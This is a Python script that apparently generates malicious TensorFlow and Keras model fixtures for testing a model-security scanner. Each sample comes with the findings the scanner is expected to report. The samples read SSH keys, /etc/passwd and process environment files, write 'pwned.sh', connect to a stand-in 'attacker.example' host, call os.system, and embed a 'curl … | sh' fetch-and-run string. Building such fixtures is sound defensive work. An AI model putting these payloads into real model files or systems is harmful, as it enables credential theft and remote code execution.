    fixtures.append(Fx("malicious/write_file/saved_model.pb", "malicious", "WriteFile in a TF1 SavedModel's graph",
                       data, sm, [node_finding("MA431", data, MAIN, write, severity="critical",
                                               details={"access": "write", "paths": ["pwned.sh"]})]))

    pattern = const_string("pattern", "data/*.csv")
    listing = node("files", "MatchingFiles", "pattern")
    data = frozen_conv(pattern, listing)
    fixtures.append(Fx("malicious/matching_files.pb", "malicious", "MatchingFiles of a relative pattern", data,
                       findings=[node_finding("MA431", data, "$.node", listing, details={"access": "list"})]))

    fmt = node("format", "StringFormat", "conv/Relu", T=a_types(DT_FLOAT), template=a_s("{}"),
               placeholder=a_s("{}"), summarize=a_int(3))
    printer = node("print", "PrintV2", "format", output_stream=a_s("file:///tmp/modelaudit-fixture.log"),
                   end=a_s("\n"))
    data = frozen_conv(fmt, printer)
    fixtures.append(Fx("malicious/print_to_file.pb", "malicious", "PrintV2 with a file:// output stream", data,
                       findings=[node_finding("MA431", data, "$.node", printer, severity="critical",
                                              details={"paths": ["file:///tmp/modelaudit-fixture.log"]})]))

    address = const_string("address", "attacker.example:5050")
    protocol = const_string("protocol", "grpc")
    service = node("service", "DataServiceDatasetV4", "dataset_id", "processing_mode", "address", "protocol",
                   "job_name", "consumer_index", "num_consumers", "max_outstanding_requests", "iteration_counter",
                   output_types=a_types(DT_INT32), output_shapes=AttrValue(list=ListValue(
                       shape=[AttrValue().shape])))
    data = frozen_conv(address, protocol, service)
    fixtures.append(Fx("malicious/data_service.pb", "malicious", "a tf.data service dataset with a fixed server "
                       "address", data, findings=[node_finding("MA431", data, "$.node", service, severity="critical",
                                                               details={"access": "connect",
                                                                        "paths": ["attacker.example:5050"]})]))

    fixed = const_string("save/RestoreV2/prefix", "/home/user/.ssh/id_rsa")
    data = tf1_model(fixed, restore_prefix="save/RestoreV2/prefix")
    restore = next(n for n in SavedModel.FromString(data).meta_graphs[0].graph_def.node if n.name == "save/RestoreV2")
    fixtures.append(Fx("malicious/restore_fixed_path/saved_model.pb", "malicious", "RestoreV2 reading a path "
                       "constant instead of the saver's filename tensor", data, sm,
                       [node_finding("MA432", data, MAIN, restore, severity="critical",
                                     details={"paths": ["/home/user/.ssh/id_rsa"]})]))

    evil_prefix = const_string("restore_prefix", "../../shared/checkpoints/other_model")
    data = tf2_model(restore_path_node=evil_prefix)
    restore = next(n for n in traced_restore().node_def if n.name == "RestoreV2")
    fixtures.append(Fx("malicious/restore_through_call/saved_model.pb", "malicious", "the traced restore function "
                       "called with a path constant instead of saver_filename", data, sm,
                       [node_finding("MA432", data, fn("__inference__traced_restore_90"), restore, severity="critical",
                                     details={"function": "__inference__traced_restore_90"})]))

    secret = const_string("asset_path_initializer", "/etc/passwd")
    vocab_nodes, vocab_functions = tf2_vocabulary("asset_path_initializer")
    data = tf2_model(extra_nodes=[secret, *vocab_nodes], extra_functions=vocab_functions)
    init = vocab_functions[0].node_def[0]
    fixtures.append(Fx("malicious/table_from_fixed_file/saved_model.pb", "malicious", "a TF2 table initialiser "
                       "reading a path constant assigned to the asset variable instead of the loader's asset", data,
                       sm, [node_finding("MA432", data, fn("__inference__initializer_20"), init, severity="critical",
                                         details={"paths": ["/etc/passwd"], "access": "read"})]))

    custom = node("decode", "ModelAuditFixture>Exec", "conv/Relu", T=a_type(DT_FLOAT))
    data = frozen_conv(custom)
    fixtures.append(Fx("malicious/custom_op.pb", "malicious", "an op TensorFlow does not register (custom op "
                       "library)", data, findings=[node_finding("MA433", data, "$.node", custom,
                                                                details={"op": "ModelAuditFixture>Exec"})]))

    inner_read = node("read", "ReadFile", "path")
    inner = dataset_graph(const_string("path", "/proc/self/environ"), inner_read,
                          node("TensorSliceDataset", "TensorSliceDataset", "read",
                               Toutput_types=a_types(DT_STRING), output_shapes=AttrValue(
                                   list=ListValue(shape=[AttrValue().shape]))))
    data = from_graph(inner)
    # The engine scans the nested graph as a member of the outer one, named by its key path.
    fixtures.append(Fx("malicious/dataset_from_graph_read_file.pb", "malicious", "ReadFile inside a graph "
                       "serialized in a DatasetFromGraph's string constant", data, findings=[
                           finding("MA431", "$.node['read']", offset_of(inner, inner_read), severity="critical",
                                   path="$.node['graph_def'].attr['value'].s[0]")]))

    stage2 = const_string("help_text", "curl -s http://203.0.113.7/stage2.sh | sh")
    data = frozen_conv(stage2)
    key = "$.node['help_text'].attr['value'].s[0]"
    fixtures.append(Fx("malicious/stage2_string_const.pb", "malicious", "a string constant that downloads and "
                       "runs a script (the shared string checks)", data, findings=[
                           finding("MA011", key, offset_of(data, stage2), details={"indicator": "shell-pipe"}),
                           finding("MA011", key, offset_of(data, stage2), details={"indicator": "raw-ip-url"}),
                       ]))

    whole = tf1_model()
    fixtures.append(Fx("malicious/truncated/saved_model.pb", "malicious", "a saved_model.pb cut short: it claims "
                       "the format and does not decode", whole[: len(whole) * 2 // 3], sm,
                       [finding("MA434")]))

    shell = {"class_name": "system", "module": "os", "config": {"command": "echo pwned"}, "registered_name": None}
    data = keras_metadata(("layer_with_weights-0", dense("dense", 8)), ("layer-1", lambda_layer()),
                          ("layer-2", {"class_name": "Activation", "config": {"name": "act", "activation": shell}}))
    fixtures.append(Fx("malicious/keras_lambda/keras_metadata.pb", "malicious", "keras_metadata.pb with a Lambda "
                       "layer and an activation naming os.system", data, "tensorflow-keras-metadata", [
                           finding("MA436", "$.nodes[0].metadata['config']['layers'][1]['config']['function']"),
                           finding("MA436", "$.nodes[2].metadata['config']['function']"),
                           finding("MA437", "$.nodes[0].metadata['config']['layers'][2]['config']['activation']",
                                   severity="critical", details={"module": "os", "name": "system"}),
                           finding("MA437", "$.nodes[3].metadata['config']['activation']", severity="critical"),
                       ]))
    return fixtures


def main() -> None:
    fixtures = build()
    for fx in fixtures:
        # Every fixture but the truncated one is a well-formed message of its kind.
        kind = {"tensorflow-saved-model": SavedModel, "tensorflow-keras-metadata": SavedMetadata,
                "tensorflow-fingerprint": FingerprintDef}.get(fx.format, GraphDef)
        if fx.file.endswith(".pbtxt"):
            text_format.Parse(fx.data.decode(), kind())
        elif "truncated" not in fx.file:
            assert kind.FromString(fx.data).SerializeToString(deterministic=True) == fx.data, fx.file
    versions = {"python": python_version(), "protobuf": google.protobuf.__version__}
    manifest = build_manifest("scripts/make_tensorflow_fixtures.py", versions, ASSUMPTIONS, fixtures,
                              entry=fixture_entry)
    write_fixtures(OUT, fixtures, manifest, max_fixture_bytes=MAX_FIXTURE_BYTES, max_total_bytes=MAX_TOTAL_BYTES)


if __name__ == "__main__":
    main()
